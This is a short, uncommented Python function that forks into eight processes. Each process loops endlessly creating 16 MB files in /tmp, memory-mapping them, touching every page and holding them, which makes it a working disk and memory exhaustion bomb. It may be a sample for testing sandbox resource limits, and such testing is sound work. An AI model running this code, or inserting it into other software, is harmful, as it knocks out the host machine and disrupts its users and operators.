import mmap, os
def f(x):
    for number in range(3): os.fork()
    held = []
    while True:
        name = f"/tmp/{os.getpid()}-{len(held)}"
        try:
            with open(name, "w+b") as file:
                file.truncate(16_000_000)
                block = mmap.mmap(file.fileno(), 0)
                for place in range(0, len(block), 4096): block[place] = 1
                held.append(block)
        except (OSError, ValueError): pass
